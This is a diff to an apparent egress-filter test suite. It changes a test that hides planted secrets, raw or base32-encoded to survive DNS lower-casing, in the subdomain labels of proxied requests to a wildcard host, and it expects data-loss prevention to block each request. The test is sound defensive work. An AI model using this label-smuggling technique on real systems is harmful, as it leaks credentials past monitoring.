@@ -642,9 +642,11 @@ def attack4(secrets):
          ["curl-connect-403"])
     # A wildcard route would forward any label: only DLP on the host name stops this.
     # (The route token is not tried here: the host side would have to pin its name.)
-    b32 = base64.b32encode(secrets["planted-ghp"].encode()).decode().rstrip("=").lower()
+    # base32 (DNS folds case, so an encoding must survive lower-casing); of the known secret,
+    # whose encoding fits in one 63-byte label.
+    b32 = base64.b32encode(secrets["known-secret"].encode()).decode().rstrip("=").lower()
     for name, label in (("planted-ghp", secrets["planted-ghp"]),
-                        ("known-secret", secrets["known-secret"]), ("planted-ghp-base32", b32)):
+                        ("known-secret", secrets["known-secret"]), ("known-secret-base32", b32)):
         out, _ = via_proxy("GET", "http://%s.%s:%d/" % (label, WILD, PORT))
         emit("4", "wildcard-label-http-" + name, out, BLOCK_DLP)
         # A CONNECT to the name is refused before any tunnel: the labels are scanned there.
